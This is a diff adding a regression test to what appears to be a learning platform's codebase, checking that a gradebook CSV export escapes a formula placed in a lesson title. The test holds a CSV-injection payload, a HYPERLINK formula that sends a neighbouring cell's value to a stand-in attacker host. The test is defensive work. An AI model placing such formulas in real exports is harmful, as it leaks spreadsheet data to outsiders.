@@ -210,3 +210,18 @@ def test_a_quiz_lesson_without_questions_yet_says_so(in_tenant, learner):
     assert client.post(f"/assessments/{course.slug}/lessons/{lesson.pk}/start/").status_code == 404
     reading = Lesson.objects.get(module__course=course, kind="text")
     assert client.get(f"/assessments/{course.slug}/lessons/{reading.pk}/").status_code == 404
+
+
+def test_gradebook_csv_neutralizes_a_formula_in_a_lesson_title(in_tenant, learner):
+    """A quiz lesson titled like a formula is text in the export's header (it ran as one before)."""
+    from courses.models import Lesson
+
+    course, lesson, _ = make_assessed_course(slug="formula-book", publish=False)
+    Lesson.objects.filter(pk=lesson.pk).update(title='=HYPERLINK("https://evil.example/?"&B2)')
+    from courses.services import course_publish
+
+    course_publish(actor=get_user_model().objects.get(email="admin@acme.test"), course=course)
+    enrollment_create(user=learner, course=course)
+    exported = client_for(in_tenant, as_role="admin").get(f"/assessments/{course.slug}/gradebook/?format=csv")
+    header = next(csv.reader(io.StringIO(exported.content.decode())))
+    assert header[2].startswith("'=HYPERLINK(")
